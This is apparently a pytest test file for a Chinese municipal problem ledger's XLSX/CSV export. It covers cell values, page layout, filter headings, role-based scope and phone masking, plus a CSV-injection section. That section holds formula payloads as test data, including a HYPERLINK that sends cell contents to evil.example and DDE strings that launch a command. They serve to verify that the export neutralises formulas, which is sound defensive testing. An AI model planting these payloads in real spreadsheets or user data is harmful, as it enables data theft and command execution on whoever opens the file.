"""Ledger export: XLSX read back cell by cell, CSV round trip, scope and phone masking."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import uuid
import zipfile

import openpyxl
import pytest

from server.db import immediate
from server.ledger import export, queries
from server.timeutil import LOCAL_TZ
from tests.ledger_helpers import add_problem, load

HEADER = [
    "序号", "问题编号", "来源", "发现时间", "地点", "问题描述", "类别", "受理时间", "责任单位",
    "协办单位", "交办时间", "原办理时限", "延期", "办理时限", "时限暂定", "是否超期", "督办情况",
    "办理进展", "办理结果", "办结时间", "办结方式", "回访情况", "满意度", "状态",
    "不予立案/解释说明理由", "退单原因", "延期原因", "合并至", "反映人", "联系电话",
]
HEADER_ROW = 4  # below the title, the scope and time, the filters


def add_event(db, problem_id: str, kind: str, at: str, note: str, actor: int,
              data: dict | None = None) -> None:
    with immediate(db):
        db["problem_events"].insert({
            "id": str(uuid.uuid4()), "problem_id": problem_id, "kind": kind, "actor_id": actor,
            "at": at, "note": note, "data": json.dumps(data or {"overdue": False}),
        })


@pytest.fixture
def closed_problem(db, world):
    problem_id = add_problem(
        db, world, ledger_no="ZF-2026-000100", source="hotline",
        found_at="2026-03-01T02:30:00+00:00", area_id=world.areas["v1"], place="3号楼",
        description="楼顶防水层破损漏水", lead_unit_id=world.units["u1"], deadline="2026-03-13",
        original_deadline="2026-03-13", accepted_at="2026-03-01T03:00:00+00:00",
        dispatched_at="2026-03-02T01:15:00+00:00", closed_on_time=1,
        status="closed", outcome="solved", callback_reached=1, callback_solved=1,
        satisfaction="basically", return_visit_result="held", resident_name="王大爷",
        resident_phone="13812345678", closed_at="2026-03-12T02:00:00+00:00",
    )
    handler = world.users["handler1"]
    add_event(db, problem_id, "progress", "2026-03-03T02:00:00+00:00", "已进场勘查", handler)
    add_event(db, problem_id, "progress", "2026-03-05T02:00:00+00:00", "防水层已重做", handler)
    add_event(db, problem_id, "reply", "2026-03-06T02:00:00+00:00", "已修复并验收", handler)
    return problem_id


EXPECTED_ROW = [
    1, "ZF-2026-000100", "12345热线", dt.datetime(2026, 3, 1, 10, 30),
    "东城区 › 杏花街道 › 幸福社区 3号楼",
    "楼顶防水层破损漏水", "供水", dt.datetime(2026, 3, 1, 11, 0), "住建局", None,
    dt.datetime(2026, 3, 2, 9, 15), dt.datetime(2026, 3, 13), None, dt.datetime(2026, 3, 13),
    None, None, None, "2026-03-05 防水层已重做", "已解决：已修复并验收",
    dt.datetime(2026, 3, 12, 10, 0), None, "已回访，群众认为已解决；回头看：整改保持", "基本满意",
    "已办结", None, None, None, None, "王大爷", "13812345678",
]


def read_sheet(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def table(sheet) -> list[list]:
    """The header row and the rows below it."""
    return [list(row) for row in sheet.iter_rows(min_row=HEADER_ROW, values_only=True)]


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_xlsx_cell_by_cell(login_as, closed_problem):
    response = login_as("office").get("/problems/export.xlsx?q=防水")
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert "attachment" in response.headers["content-disposition"]
    rows = table(read_sheet(response))
    assert rows[0] == HEADER
    assert len(rows) == 2
    for column, (got, expected) in enumerate(zip(rows[1], EXPECTED_ROW, strict=True)):
        assert got == expected, HEADER[column]


def test_csv_round_trip(login_as, closed_problem, world):
    client = login_as("office")
    response = client.get("/problems/export.csv?sort=ledger_no&dir=asc")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel looks for
    rows = read_csv(response)
    assert rows[0] == HEADER  # no heading above it: the CSV stays a plain table
    by_no = {row[1]: row for row in rows[1:]}
    assert set(by_no) == {"", "ZF-2026-000002", "ZF-2026-000003", "ZF-2026-000100"}
    assert by_no["ZF-2026-000100"][1:] == [
        "ZF-2026-000100", "12345热线", "2026-03-01 10:30", "东城区 › 杏花街道 › 幸福社区 3号楼",
        "楼顶防水层破损漏水",
        "供水", "2026-03-01 11:00", "住建局", "", "2026-03-02 09:15", "2026-03-13", "",
        "2026-03-13", "", "", "", "2026-03-05 防水层已重做", "已解决：已修复并验收",
        "2026-03-12 10:00", "", "已回访，群众认为已解决；回头看：整改保持", "基本满意", "已办结",
        "", "", "", "", "王大爷", "13812345678",
    ]
    assert [row[0] for row in rows[1:]] == ["1", "2", "3", "4"]
    # Written back with the csv module, the same rows come out.
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == rows


# The columns offices keep beside the ledger's own ---------------------------------------

LATER = (dt.date.today() + dt.timedelta(days=60)).isoformat()  # a deadline not yet reached


@pytest.fixture
def office_cases(db, world, closed_problem) -> dict[str, str]:
    """One problem for each thing the new columns say, keyed by its description."""
    office, u1, u2 = world.users["office"], world.units["u1"], world.units["u2"]
    dispatched = {"accepted_at": "2026-03-01T03:00:00+00:00",
                  "dispatched_at": "2026-03-02T01:15:00+00:00", "lead_unit_id": u1}
    cases = {
        "不予立案的问题": add_problem(db, world, status="rejected",
                               closed_at="2026-03-02T02:00:00+00:00",
                               reject_reason_code="out_of_scope"),
        "重复上报的问题": add_problem(db, world, status="merged", merged_into=closed_problem,
                               closed_at="2026-03-02T02:00:00+00:00"),
        "延期两次的问题": add_problem(db, world, status="handling", **dispatched,
                               original_deadline="2026-03-13", deadline=LATER),
        "协办的问题": add_problem(db, world, status="handling", **dispatched,
                             helper_unit_ids=json.dumps([u2]), deadline=LATER),
        "挂牌督办的问题": add_problem(db, world, status="handling", **dispatched, deadline=LATER,
                               supervision="flagged", supervision_note="限期整改到位"),
        "超期未办结的问题": add_problem(db, world, status="handling", **dispatched,
                                deadline="2026-03-13", original_deadline="2026-03-13"),
        "超期办结的问题": add_problem(db, world, status="closed", **dispatched,
                               deadline="2026-03-13", closed_on_time=0,
                               closed_at="2026-03-20T02:00:00+00:00"),
        "时限暂定的问题": add_problem(db, world, status="dispatched", **dispatched,
                               deadline=LATER, deadline_provisional=1),
        "解释说明办结的问题": add_problem(db, world, status="closed", **dispatched,
                                 deadline=LATER, closed_on_time=1,
                                 closed_at="2026-03-10T02:00:00+00:00",
                                 closure_kind="explained",
                                 closure_reason="属历史遗留问题，已向群众解释政策",
                                 explained_reason_code="legacy"),
        "退单过的问题": add_problem(db, world, status="dispatched", **dispatched,
                              deadline=LATER, return_reason_code="not_our_duty"),
        # A reason deactivated since keeps its label.
        "申请过延期的问题": add_problem(db, world, status="dispatched", **dispatched,
                                deadline=LATER, extension_reason_code="season"),
    }
    with immediate(db):
        db.execute("UPDATE reason_options SET active = 0 WHERE code = 'season'")
    for description, problem_id in cases.items():
        with immediate(db):
            db["problems"].update(problem_id, {"description": description})
    with immediate(db):  # the helper unit's part (协办, m018), answered
        db["joint_parts"].insert({"problem_id": cases["协办的问题"], "unit_id": u2,
                                  "state": "answered", "dispatched_at": dispatched["dispatched_at"],
                                  "answered_at": "2026-03-05T02:00:00+00:00",
                                  "opinion": "已配合排查"})
    add_event(db, cases["不予立案的问题"], "reject", "2026-03-02T02:00:00+00:00",
              "已告知反映人通过诉讼途径解决", office)
    extended = cases["延期两次的问题"]
    add_event(db, extended, "approve_extension", "2026-03-10T02:00:00+00:00", "", office,
              {"extra_days": 3, "deadline": "2026-03-18", "old_deadline": "2026-03-13",
               "provisional": False})
    add_event(db, extended, "approve_extension", "2026-03-16T02:00:00+00:00", "", office,
              {"extra_days": 5, "deadline": LATER, "old_deadline": "2026-03-18",
               "provisional": False})
    return cases


NEW_COLUMNS = {  # (description, column): what the export says there
    ("不予立案的问题", "不予立案/解释说明理由"): "不属于受理范围：已告知反映人通过诉讼途径解决",
    ("不予立案的问题", "办结时间"): "2026-03-02 10:00",
    ("重复上报的问题", "合并至"): "ZF-2026-000100",
    ("延期两次的问题", "原办理时限"): "2026-03-13",
    ("延期两次的问题", "办理时限"): LATER,
    ("延期两次的问题", "延期"): f"延期2次，共8个工作日\n至{LATER}",
    ("协办的问题", "协办单位"): "水务集团（已答复）",
    ("协办的问题", "责任单位"): "住建局",
    ("挂牌督办的问题", "督办情况"): "挂牌督办：限期整改到位",
    ("超期未办结的问题", "是否超期"): "超期",
    ("超期未办结的问题", "状态"): "办理中（超期）",
    ("超期办结的问题", "是否超期"): "超期办结",
    ("超期办结的问题", "状态"): "已办结",
    ("时限暂定的问题", "时限暂定"): "暂定",
    ("时限暂定的问题", "办理时限"): LATER,
    ("解释说明办结的问题", "办结方式"): "解释说明办结",
    ("解释说明办结的问题", "不予立案/解释说明理由"):
        "历史遗留问题：属历史遗留问题，已向群众解释政策",
    ("退单过的问题", "退单原因"): "不属于本单位职责",
    ("申请过延期的问题", "延期原因"): "受天气季节影响",
    ("延期两次的问题", "受理时间"): "2026-03-01 11:00",
    ("延期两次的问题", "交办时间"): "2026-03-02 09:15",
}
BLANK_UNLESS_SET = ("协办单位", "延期", "时限暂定", "是否超期", "督办情况", "办结方式",
                    "不予立案/解释说明理由", "合并至", "退单原因", "延期原因")


DATE_COLUMNS = ("原办理时限", "办理时限")  # openpyxl reads every date as a datetime


def _as_text(value, column: str) -> str:
    return export._text(value.date() if column in DATE_COLUMNS else value)


def test_new_columns_in_the_csv(login_as, office_cases):
    rows = read_csv(login_as("office").get("/problems/export.csv?q=问题"))
    by_description = {row[5]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(office_cases) <= set(by_description)
    for (description, column), expected in NEW_COLUMNS.items():
        assert by_description[description][column] == expected, (description, column)
    # Each marker is on its own problem only.
    for column in BLANK_UNLESS_SET:
        marked = {description for description, row in by_description.items() if row[column]}
        assert marked == {description for description, name in NEW_COLUMNS if name == column}


def test_new_columns_in_the_xlsx(login_as, office_cases):
    rows = table(read_sheet(login_as("office").get("/problems/export.xlsx?q=问题")))
    by_description = {row[5]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    for (description, column), expected in NEW_COLUMNS.items():
        assert _as_text(by_description[description][column], column) == expected, (
            description, column)
    extended = by_description["延期两次的问题"]
    # Times and deadlines are real dates, which Excel sorts and filters as dates.
    assert extended["受理时间"] == dt.datetime(2026, 3, 1, 11, 0)
    assert extended["原办理时限"] == dt.datetime(2026, 3, 13)
    assert by_description["时限暂定的问题"]["办理时限"] == dt.datetime.fromisoformat(LATER)


@pytest.mark.sqlite_only  # counts statements with sqlite3's trace callback
def test_events_are_read_once_per_chunk(db, world, office_cases, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 4)
    statements = []
    db.conn.set_trace_callback(statements.append)
    try:
        rows = list(export.records(db, load(db, world, "office"), queries.Filter()))
    finally:
        db.conn.set_trace_callback(None)
    event_reads = [sql for sql in statements if "approve_extension" in sql]
    # At most one per chunk (ceil(15 / 4)), and none for a chunk with nothing to look up.
    assert len(rows) == 15 and 1 <= len(event_reads) <= 4
    assert not db.conn.in_transaction


def test_export_follows_the_filter_and_scope(login_as, world, closed_problem):
    def exported(username: str, query: str = "") -> set[str]:
        response = login_as(username).get(f"/problems/export.csv?{query}")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
        return {row[5] for row in rows}

    assert exported("office", "q=漏水") == {"幸福社区3号楼漏水，墙面渗水", "楼顶防水层破损漏水"}
    # A handler gets only the unit's problems (u1: p3 and the closed one).
    assert exported("handler1") == {"第一网格小区物业不作为，路灯不亮", "楼顶防水层破损漏水"}
    assert exported("handler2") == {"杏花村自来水水压不足"}
    # A district office never gets the other district's rows, whatever the filter says.
    assert "杏花村自来水水压不足" not in exported("office_d1")
    assert exported("office_d1", "area=370103") == set()
    # Field officials may not export at all.
    assert login_as("field1").get("/problems/export.csv").status_code == 403


def test_phone_shown_as_on_the_problem_page(db, world, login_as, closed_problem):
    """Unmasked for the office and for the lead unit's handlers (authz.may_see_resident_phone),
    masked for everyone else, row by row."""
    def phones(username: str) -> dict[str, str]:
        rows = read_csv(login_as(username).get("/problems/export.csv?q=水"))
        return {row[5]: row[-1] for row in rows[1:]}

    add_problem(db, world, description="自来水管爆裂", area_id=world.areas["v2"],
                lead_unit_id=world.units["u2"], resident_phone="13900001111")
    assert phones("office") == {"楼顶防水层破损漏水": "13812345678", "自来水管爆裂": "13900001111",
                                "幸福社区3号楼漏水，墙面渗水": "", "杏花村自来水水压不足": ""}
    assert phones("handler1") == {"楼顶防水层破损漏水": "13812345678"}  # u1 leads it
    assert phones("leader")["楼顶防水层破损漏水"] == "138****5678"
    # A handler who is also a leader sees the area's problems, their unit's unmasked only.
    with immediate(db):
        db["users"].update(world.users["handler1"], {"roles": "handler,leader"})
    assert phones("handler1") == {
        "楼顶防水层破损漏水": "13812345678", "自来水管爆裂": "139****1111",
        "幸福社区3号楼漏水，墙面渗水": "", "杏花村自来水水压不足": ""}


def test_rows_are_streamed_in_chunks(db, world, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 10)
    for n in range(35):
        add_problem(db, world, description=f"批量问题{n}")

    rows = export.records(db, load(db, world, "office"), queries.Filter(q="批量"))
    chunks = list(export.csv_chunks(rows))
    assert len(chunks) == 4  # after rows 10, 20 and 30, then the last five
    text = b"".join(chunks).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(text)))) == 36


# The XLSX laid out to be handed up ----------------------------------------------------


def test_xlsx_layout(login_as, world, office_cases):
    response = login_as("office").get(
        f"/problems/export.xlsx?q=问题&status=handling&unit={world.units['u1']}")
    sheet = read_sheet(response)
    rows = table(sheet)
    last_row = HEADER_ROW + len(rows) - 1
    assert len(rows) == 5  # the header, then the four problems in hand of u1
    # The heading: what, for whom, when, with which filters.
    assert sheet["A1"].value == "青川市问题台账"
    assert sheet["A1"].font.b and "A1:AD1" in {str(r) for r in sheet.merged_cells.ranges}
    scope, _sep, time = sheet["A2"].value.partition("　　")
    assert scope == "范围：青川市"
    exported = dt.datetime.strptime(time, "导出时间：%Y-%m-%d %H:%M")
    local_now = dt.datetime.now(dt.UTC).astimezone(LOCAL_TZ).replace(tzinfo=None)
    assert abs(exported - local_now) < dt.timedelta(minutes=2)
    assert sheet["A3"].value == "筛选条件：状态：办理中；责任单位：住建局；关键词：问题"
    # Frozen below the header, which carries the autofilter over every row.
    assert sheet.freeze_panes == f"A{HEADER_ROW + 1}"
    assert sheet.auto_filter.ref == f"A{HEADER_ROW}:AD{last_row}"
    header = sheet[HEADER_ROW]
    assert all(cell.font.b and cell.alignment.wrap_text for cell in header)
    # Widths from each column's kind: dates wide enough for their format, text capped.
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in header}
    assert widths == {name: column.width for name, column in zip(HEADER, export.COLUMNS,
                                                                  strict=True)}
    for name in ("发现时间", "受理时间", "交办时间", "办结时间"):
        assert widths[name] >= 16.5, name  # 2026-03-01 10:30
    for name in ("原办理时限", "办理时限"):
        assert widths[name] >= 11, name  # 2026-03-13
    assert widths["问题编号"] >= 15 and widths["合并至"] >= 15  # ZF-2026-000100
    assert 20 <= widths["问题描述"] <= 50
    # Text wraps within its column; the row is given the height its text needs.
    description = HEADER.index("问题描述") + 1
    for row in range(HEADER_ROW + 1, last_row + 1):
        assert sheet.cell(row, description).alignment.wrap_text
        assert sheet.cell(row, description).alignment.vertical == "top"
    extended = next(row for row in range(HEADER_ROW + 1, last_row + 1)
                    if sheet.cell(row, description).value == "延期两次的问题")
    assert sheet.row_dimensions[extended].height >= 30  # two lines in 延期
    # Not a custom height: Excel fits the row to its text again when it shows it.
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert sheet_xml.count(b"customHeight") == 1  # the title's row only
    # Printed: A4 landscape, fitted to the width, the header row on every page.
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)
    assert (int(setup.fitToWidth), int(setup.fitToHeight)) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    assert "&P" in sheet.oddFooter.center.text


def test_xlsx_heading_names_the_scope(login_as, closed_problem):
    sheet = read_sheet(login_as("handler1").get("/problems/export.xlsx"))
    assert sheet["A1"].value == "住建局问题台账"
    assert sheet["A2"].value.startswith("范围：住建局　　导出时间：")
    assert sheet["A3"].value == "筛选条件：无（全部问题）"
    assert table(sheet)[0] == HEADER
    sheet = read_sheet(login_as("office_d1").get("/problems/export.xlsx?area=370102001"))
    assert sheet["A1"].value == "东城区问题台账"
    assert sheet["A3"].value == "筛选条件：区域：杏花街道"


def test_filter_summary(db, world):
    f = queries.Filter(
        status="handling", category=world.category, area="370102", unit=world.units["u2"],
        source="hotline", urgency="urgent", overdue="yes", supervision="flagged",
        reporter=world.users["field1"], found_from=dt.date(2026, 3, 1),
        found_to=dt.date(2026, 3, 31), accepted_from=dt.date(2026, 3, 2),
        closed_to=dt.date(2026, 4, 30), q="漏水 3号楼",
    )
    assert export.filter_summary(db, f) == (
        "状态：办理中；类别：供水；区域：东城区；责任单位：水务集团；来源：12345热线；"
        "紧急程度：较急；是否超期：是；督办：挂牌督办；发现人：测试field1；"
        "发现时间：2026-03-01 至 2026-03-31；立案时间：2026-03-02 起；办结时间：至 2026-04-30；"
        "关键词：漏水 3号楼"
    )
    assert export.filter_summary(db, queries.Filter(unit=999)) == "责任单位：999"
    assert export.filter_summary(db, queries.Filter()) == "无（全部问题）"


@pytest.mark.slow
def test_xlsx_prints_to_pdf_with_libreoffice(db, world, login_as, office_cases, tmp_path):
    """LibreOffice converts the XLSX to a landscape PDF: no error, no ###, the header on
    every page. scripts/test installs LibreOffice (libreoffice-calc-nogui) for this."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice's soffice is not installed here (scripts/test installs "
                    "libreoffice-calc-nogui)")
    for n in range(60):  # enough rows for several pages
        add_problem(db, world, description=f"打印测试问题{n:02d}：" + "楼道堆放杂物影响通行" * 4)
    response = login_as("office").get("/problems/export.xlsx?sort=found_at&dir=asc")
    xlsx = tmp_path / "ledger.xlsx"
    assert response.status_code == 200
    xlsx.write_bytes(response.content)
    home = tmp_path / "home"
    home.mkdir()
    result = subprocess.run(
        [soffice, "--headless", "--norestore", f"-env:UserInstallation={home.as_uri()}/lo",
         "--convert-to", "pdf", "--outdir", str(tmp_path), str(xlsx)],
        env={**os.environ, "HOME": str(home)}, capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0, result.stderr
    pdf = tmp_path / "ledger.pdf"
    assert pdf.exists() and pdf.stat().st_size > 0, result.stdout + result.stderr
    if shutil.which("pdfinfo"):
        info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
                              check=True).stdout
        width, height = map(float, re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
        assert (round(width), round(height)) == (842, 595)  # A4, landscape
        pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
        assert pages >= 2
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                              text=True, check=True).stdout
        assert "###" not in text  # every date and number fits its column
        assert "青川市问题台账" in text and "2026-03-01 10:30" in text
        assert "ZF-2026-000100" in text and "延期2次" in text
        printed = text.split("\f")[:-1]  # one part per page
        for page in printed:  # the header row is printed on every page
            for name in ("问题编号", "发现时间", "受理时间", "协办单位", "联系电话"):
                assert name in page, (name, printed.index(page))


def test_xlsx_heading_names_ignored_filters(login_as, closed_problem):
    # An unknown area and a date that is not one are ignored by the export: the heading
    # says so, and does not list them as filters.
    response = login_as("office").get("/problems/export.xlsx?area=999999&found_from=2026-13-01"
                                      "&status=closed")
    sheet = read_sheet(response)
    assert sheet["A3"].value == (
        "筛选条件：状态：已办结　以下筛选条件无效，已忽略：发现时间（起）、区域")
    assert [row[1] for row in table(sheet)[1:]] == ["ZF-2026-000100"]


# Formulas (CSV injection) ------------------------------------------------------------------

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
def formula_problems(db, world) -> dict[str, str]:
    """A problem per character a spreadsheet starts a formula with, in the description
    (and the resident's name), keyed by ledger number."""
    made = {}
    for n, text in enumerate(FORMULAS.values(), start=1):
        ledger_no = f"ZF-2026-9{n:05d}"
        add_problem(db, world, ledger_no=ledger_no, description=text, resident_name=text,
                    status="accepted", accepted_at="2026-03-01T03:00:00+00:00")
        made[ledger_no] = text
    return made


def test_csv_cells_that_would_be_formulas_are_written_as_text(login_as, formula_problems):
    rows = read_csv(login_as("office").get("/problems/export.csv"))
    description, name = HEADER.index("问题描述"), HEADER.index("反映人")
    by_no = {row[1]: row for row in rows[1:] if row[1] in formula_problems}
    assert set(by_no) == set(formula_problems)
    for ledger_no, text in formula_problems.items():
        assert by_no[ledger_no][description] == "'" + text
        assert by_no[ledger_no][name] == "'" + text
    for row in rows:
        for cell in row:
            assert not cell.startswith(export.FORMULA_STARTS), cell


def test_csv_quotes_every_cell_and_leaves_numbers_and_dates_alone(login_as, closed_problem):
    response = login_as("office").get("/problems/export.csv?q=防水")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith('"1","ZF-2026-000100","12345热线","2026-03-01 10:30",')
    assert list(export.csv_chunks(iter([[-1, dt.date(2026, 3, 1), "-1", "a-b", "x=1"]])))[0] \
        .decode("utf-8-sig").splitlines()[1] == '"-1","2026-03-01","\'-1","a-b","x=1"'


def test_xlsx_writes_formula_like_text_as_inline_strings(login_as, formula_problems):
    response = login_as("office").get("/problems/export.xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
        sheet_xml = workbook.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    rows = table(read_sheet(response))
    description = HEADER.index("问题描述")
    texts = {row[1]: row[description] for row in rows[1:]}
    for ledger_no, text in formula_problems.items():
        # Unchanged, and a plain string (XML reads a carriage return as a line feed).
        assert texts[ledger_no] == text.replace("\r", "\n")
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    for row in workbook.active.iter_rows(min_row=HEADER_ROW + 1):
        assert all(cell.data_type != "f" for cell in row)
